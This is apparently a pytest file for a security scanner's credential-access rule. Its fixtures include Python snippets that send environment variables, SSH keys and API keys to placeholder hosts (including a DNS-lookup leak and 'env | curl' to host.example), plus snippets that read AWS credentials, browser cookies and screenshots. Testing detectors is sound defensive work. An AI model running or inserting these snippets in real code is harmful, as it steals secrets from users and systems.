import pytest

from tests.inspected import found, model, severities

SENT = {
    "environment": "import json, os, requests\nrequests.post('https://host.example', data=json.dumps(dict(os.environ)))\n",
    "loop": "import os, urllib.request as u\nfor k, v in os.environ.items():\n    u.urlopen('http://host.example/?' + k + v)\n",
    "key": "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://host.example', data=key)\n",
    "collector": "import requests, socket\nrequests.get('https://webhook.site/x?h=' + socket.gethostname())\n",
    "name server": "import os, socket\nsocket.gethostbyname(os.environ['API_KEY'] + '.host.example')\n",
    "shell": "import os\nos.system('env | curl -d @- https://host.example')\n",
}


@pytest.mark.parametrize("source", SENT.values(), ids=SENT)
def test_secrets_that_are_sent(source: str) -> None:
    assert severities("code-credential-access", model(source))[0] == "critical"


@pytest.mark.parametrize(
    ("source", "severity"),
    [
        ("import os\nx = open(os.path.expanduser('~/.aws/credentials')).read()\n", "high"),
        ("import browser_cookie3\nc = browser_cookie3.chrome()\n", "high"),
        ("from PIL import ImageGrab\nshot = ImageGrab.grab()\n", "high"),
        ("import getpass, requests\nrequests.get('https://host.example/' + getpass.getuser())\n", "high"),
        (
            "import os, requests\ndef ask(x):\n    return requests.post('https://api.host.example', headers={'k': os.environ['API_KEY']})\n",
            "medium",
        ),
    ],
)
def test_reads_and_lesser_flows(source: str, severity: str) -> None:
    assert severities("code-credential-access", model(source))[0] == severity


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndevice = os.environ.get('CUDA_VISIBLE_DEVICES')\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
        "import os, subprocess\ndef f(cmd):\n    env = os.environ.copy()\n    return env\n",
        (
            "import requests\nfrom huggingface_hub import get_token\ndef info():\n"
            "    return requests.get('https://huggingface.co/api/whoami-v2', headers={'a': get_token()})\n"
        ),
        "import socket\naddress = socket.gethostbyname(socket.gethostname())\n",
        "vocab = {'id_rsa': 1}\n",
    ],
)
def test_harmless_look_alikes(source: str) -> None:
    assert found("code-credential-access", model(source)) == []
